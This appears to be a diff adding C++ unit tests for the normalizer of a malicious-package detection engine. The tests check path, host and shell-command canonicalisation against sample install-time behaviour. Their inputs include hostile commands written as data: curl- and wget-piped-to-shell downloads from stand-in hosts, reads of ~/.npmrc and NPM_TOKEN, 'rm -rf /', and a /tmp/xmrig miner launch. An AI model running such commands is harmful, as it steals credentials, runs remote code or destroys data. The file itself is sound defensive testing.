@@ -1,0 +1,184 @@
+#include "engine/analysis/normalizer.h"
+
+#include <algorithm>
+
+#include <gtest/gtest.h>
+
+#include "engine/analysis/normalizer_shell.h"
+#include "tests/engine/analysis/analysis_test_events.h"
+
+namespace vigil::engine::analysis {
+namespace {
+
+using test::ev;
+namespace kind = collect::kind;
+
+std::vector<std::vector<std::string>> argvs(const ShellParse& p) {
+    std::vector<std::vector<std::string>> out;
+    for (const auto& c : p.commands)
+        out.push_back(c.argv);
+    return out;
+}
+
+std::vector<std::string> keysOf(const std::vector<Observation>& obs, Section s) {
+    std::vector<std::string> out;
+    for (const auto& o : obs)
+        if (o.section == s && std::find(out.begin(), out.end(), o.key) == out.end())
+            out.push_back(o.key);
+    return out;
+}
+
+using V = std::vector<std::string>;
+
+TEST(NormalizerPaths, CanonicalPlacesOfAConsumerInstall) {
+    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
+    EXPECT_EQ(n.path("/home/dev/project/node_modules/evil/lib/x.js"), "$PKG/lib/x.js");
+    EXPECT_EQ(n.path("/home/dev/project/node_modules/evil"), "$PKG");
+    EXPECT_EQ(n.path("/home/dev/project/node_modules/dep/index.js"), "$NODE_MODULES/dep/index.js");
+    EXPECT_EQ(n.path("/home/dev/project/node_modules/@s/dep/a.js"), "$NODE_MODULES/@s/dep/a.js");
+    EXPECT_EQ(n.path("/home/dev/project/node_modules/evil/node_modules/nested/a.js"), "$NODE_MODULES/nested/a.js");
+    EXPECT_EQ(n.path("/home/dev/.npmrc"), "$HOME/.npmrc");
+    EXPECT_EQ(n.path("/home/dev//.ssh/./id_ed25519"), "$HOME/.ssh/id_ed25519");
+    EXPECT_EQ(n.path("/tmp/a/../inventory.txt"), "$TMP/inventory.txt");
+    EXPECT_EQ(n.path("/tmpfoo/x"), "/tmpfoo/x");  // a sibling, not under /tmp
+    EXPECT_EQ(n.path("/etc/passwd"), "/etc/passwd");
+    EXPECT_EQ(n.path("relative/file"), "relative/file");
+}
+
+TEST(NormalizerPaths, PackageThatIsTheProject) {
+    PackageIdentity id{"app", "2.0.0", "/home/dev/project"};
+    const Normalizer n(id);
+    EXPECT_EQ(n.path("/home/dev/project/index.js"), "$PKG/index.js");
+    EXPECT_EQ(n.path("/home/dev/project/node_modules/dep/a"), "$NODE_MODULES/dep/a");
+    EXPECT_EQ(n.pathsInText("cat /home/dev/.npmrc > /tmp/x; node /home/dev/project/i.js"),
+              "cat $HOME/.npmrc > $TMP/x; node $PKG/i.js");
+}
+
+TEST(NormalizerHosts, HostsConnectionsAndHttpRequests) {
+    EXPECT_EQ(Normalizer::host("X.Example."), "x.example");
+    EXPECT_EQ(Normalizer::connection("X.example", 443, "TCP"), "x.example:443/tcp");
+    EXPECT_EQ(Normalizer::connection("::1", 80, ""), "[::1]:80/tcp");
+    // query values carry per-run data; only the names are behaviour
+    EXPECT_EQ(Normalizer::httpRequest("post", "X.example", "/c?v=1&k=abc&v=2#frag"), "POST x.example /c?k&v");
+    EXPECT_EQ(Normalizer::httpRequest("", "x.example", ""), "GET x.example /");
+}
+
+TEST(ShellSplit, PipelineInsideShC) {
+    EXPECT_EQ(argvs(splitShell("curl -fsSL https://x.example/i.sh | sh")),
+              (std::vector<V>{{"curl", "-fsSL", "https://x.example/i.sh"}, {"sh"}}));
+}
+
+TEST(ShellSplit, QuotesKeepOperatorsInsideWords) {
+    const ShellParse p = splitShell(R"(echo 'a | b' "c && d" e\;f "x\"y" 'it'\''s')");
+    ASSERT_EQ(p.commands.size(), 1u);
+    EXPECT_EQ(p.commands[0].argv, (V{"echo", "a | b", "c && d", "e;f", "x\"y", "it's"}));
+    EXPECT_TRUE(p.complete);
+}
+
+TEST(ShellSplit, ListsAndAndOr) {
+    EXPECT_EQ(argvs(splitShell("a 1 && b || c; d & e\nf |& g")),
+              (std::vector<V>{{"a", "1"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}, {"g"}}));
+}
+
+TEST(ShellSplit, SubshellsAndSubstitutionsAreCommandsToo) {
+    const ShellParse p = splitShell("(cd /tmp && wget http://x.example/p) ; echo \"$(curl -s y.example | base64 -d)\" `id`");
+    std::vector<std::pair<V, int>> got;
+    for (const auto& c : p.commands)
+        got.emplace_back(c.argv, c.depth);
+    EXPECT_EQ(got, (std::vector<std::pair<V, int>>{{{"cd", "/tmp"}, 1},
+                                                   {{"wget", "http://x.example/p"}, 1},
+                                                   {{"curl", "-s", "y.example"}, 1},
+                                                   {{"base64", "-d"}, 1},
+                                                   {{"id"}, 1},
+                                                   {{"echo", "$(curl -s y.example | base64 -d)", "`id`"}, 0}}));
+}
+
+TEST(ShellSplit, RedirectionsAssignmentsReservedWordsAndHeredocs) {
+    EXPECT_EQ(argvs(splitShell("FOO=1 BAR=\"x y\" node i.js >/tmp/o 2>&1 </dev/null")),
+              (std::vector<V>{{"node", "i.js"}}));
+    EXPECT_EQ(argvs(splitShell("if [ -f ~/.npmrc ]; then cat ~/.npmrc; fi")),
+              (std::vector<V>{{"[", "-f", "~/.npmrc", "]"}, {"cat", "~/.npmrc"}}));
+    EXPECT_EQ(argvs(splitShell("for f in a b; do rm $f; done")), (std::vector<V>{{"rm", "$f"}}));
+    EXPECT_EQ(argvs(splitShell("cat <<EOF > /tmp/x\nrm -rf /\nEOF\necho done # comment")),
+              (std::vector<V>{{"cat"}, {"echo", "done"}}));
+    EXPECT_EQ(argvs(splitShell("echo $((1+2)) ${HOME}")), (std::vector<V>{{"echo", "$((1+2))", "${HOME}"}}));
+}
+
+TEST(ShellSplit, UnbalancedQuoteIsReportedIncomplete) {
+    const ShellParse p = splitShell("curl 'http://x.example");
+    EXPECT_FALSE(p.complete);
+    ASSERT_EQ(p.commands.size(), 1u);
+    EXPECT_EQ(p.commands[0].argv, (V{"curl", "http://x.example"}));
+}
+
+TEST(NormalizerCommands, ShellAndWrappersAreUnwrapped) {
+    EXPECT_EQ(Normalizer::shellScript({"/bin/sh", "-c", "curl x | sh"}), "curl x | sh");
+    EXPECT_EQ(Normalizer::shellScript({"bash", "-lc", "id", "name"}), "id");
+    EXPECT_EQ(Normalizer::shellScript({"busybox", "sh", "-c", "id"}), "id");
+    EXPECT_EQ(Normalizer::shellScript({"bash", "script.sh"}), "");
+    EXPECT_EQ(Normalizer::unwrapWrapper({"env", "-i", "A=1", "node", "x.js"}), (V{"node", "x.js"}));
+    EXPECT_EQ(Normalizer::unwrapWrapper({"timeout", "-s", "KILL", "5", "curl", "y"}), (V{"curl", "y"}));
+    EXPECT_EQ(Normalizer::unwrapWrapper({"nohup", "./payload"}), (V{"./payload"}));
+    EXPECT_EQ(Normalizer::unwrapWrapper({"sudo", "-u", "root", "id"}), (V{"id"}));
+    EXPECT_TRUE(Normalizer::unwrapWrapper({"curl", "x"}).empty());
+}
+
+TEST(NormalizerObserve, ExecOfShCGivesScriptCommandsAndPrograms) {
+    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
+    const auto obs = n.observe(ev(7, kind::ProcessExec,
+                                  {{"path", "/bin/sh"},
+                                   {"argv", {"sh", "-c", "curl -s https://x.example/p | nohup sh && cat /home/dev/.npmrc"}}}));
+    EXPECT_EQ(keysOf(obs, Section::ShellCommands),
+              (V{"curl -s https://x.example/p | nohup sh && cat $HOME/.npmrc"}));
+    EXPECT_EQ(keysOf(obs, Section::ProcessPrograms), (V{"sh", "curl", "nohup", "cat"}));
+    EXPECT_EQ(keysOf(obs, Section::ProcessCommands),
+              (V{"sh -c 'curl -s https://x.example/p | nohup sh && cat /home/dev/.npmrc'", "curl -s https://x.example/p",
+                 "nohup sh", "sh", "cat $HOME/.npmrc"}));
+    for (const auto& o : obs)
+        EXPECT_EQ(o.seq, 7u);
+}
+
+TEST(NormalizerObserve, RuntimeSpawnWithShellAndDownloadedProgram) {
+    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
+    const auto shell = n.observe(ev(1, kind::ProcessSpawn, {{"api", "exec"}, {"command", "wget -q y.example -O- | bash"},
+                                                            {"args", nlohmann::json::array()}, {"shell", true}}));
+    EXPECT_EQ(keysOf(shell, Section::ProcessPrograms), (V{"wget", "bash"}));
+    const auto direct = n.observe(ev(2, kind::ProcessSpawn, {{"api", "spawn"}, {"command", "/tmp/xmrig"},
+                                                             {"args", {"--url", "pool.example:3333"}}, {"shell", false}}));
+    EXPECT_EQ(keysOf(direct, Section::ProcessPrograms), (V{"$TMP/xmrig"}));
+    EXPECT_EQ(keysOf(direct, Section::ProcessCommands), (V{"$TMP/xmrig --url pool.example:3333"}));
+    EXPECT_TRUE(keysOf(direct, Section::ShellCommands).empty());
+}
+
+TEST(NormalizerObserve, FilesNetworkEnvAndCode) {
+    const Normalizer n(PackageIdentity::inConsumer("evil", "1.0.0"));
+    const auto obs = n.observe(std::vector<collect::Event>{
+        ev(1, kind::FileOpen, {{"path", "/home/dev/.npmrc"}, {"access", "read"}}),
+        ev(2, kind::FileOpen, {{"path", "/tmp/inventory.txt"}, {"access", "write"}, {"create", true}}),
+        ev(3, kind::FileUnlink, {{"path", "/home/dev/project/node_modules/evil/setup.js"}}),
+        ev(4, kind::FileRename, {{"from", "/tmp/a"}, {"to", "/home/dev/.bashrc"}}),
+        ev(5, kind::FileAccess, {{"api", "fs.writeFileSync"}, {"path", "/home/dev/.config/x"}}),
+        ev(6, kind::NetConnect, {{"family", "inet"}, {"address", "10.1.2.3"}, {"port", 443}, {"host", "X.example"}}),
+        ev(7, kind::NetSend, {{"family", "inet"}, {"address", "10.9.9.9"}, {"port", 53}}),
+        ev(8, kind::NetDns, {{"name", "Data.X.example."}, {"type", "A"}}),
+        ev(9, kind::NetHttp, {{"method", "post"}, {"host", "x.example"}, {"path", "/c?t=secret"}}),
+        ev(10, kind::EnvRead, {{"name", "NPM_TOKEN"}, {"via", "process.env"}}),
+        ev(11, kind::EnvEnumerate, {{"how", "stringify"}}),
+        ev(12, kind::CodeEval, {{"length", 10}}),
+        ev(13, kind::CodeGlobalOverride, {{"target", "fetch"}}),
+        ev(14, kind::ProcessExit, {{"code", 0}}),
+    });
+    EXPECT_EQ(keysOf(obs, Section::FileReads), (V{"$HOME/.npmrc"}));
+    EXPECT_EQ(keysOf(obs, Section::FileWrites), (V{"$TMP/inventory.txt", "$HOME/.bashrc", "$HOME/.config/x"}));
+    EXPECT_EQ(keysOf(obs, Section::FileDeletes), (V{"$PKG/setup.js", "$TMP/a"}));
+    EXPECT_EQ(keysOf(obs, Section::NetConnections), (V{"x.example:443/tcp", "10.9.9.9:53/udp"}));
+    EXPECT_EQ(keysOf(obs, Section::NetDns), (V{"data.x.example"}));
+    EXPECT_EQ(keysOf(obs, Section::NetHttp), (V{"POST x.example /c?t"}));
+    EXPECT_EQ(keysOf(obs, Section::EnvReads), (V{"NPM_TOKEN"}));
+    EXPECT_EQ(keysOf(obs, Section::EnvEnumerations), (V{"stringify"}));
+    EXPECT_EQ(keysOf(obs, Section::CodeDynamic), (V{"eval"}));
+    EXPECT_EQ(keysOf(obs, Section::CodeGlobalOverrides), (V{"fetch"}));
+}
+
+}  // namespace
+}  // namespace vigil::engine::analysis
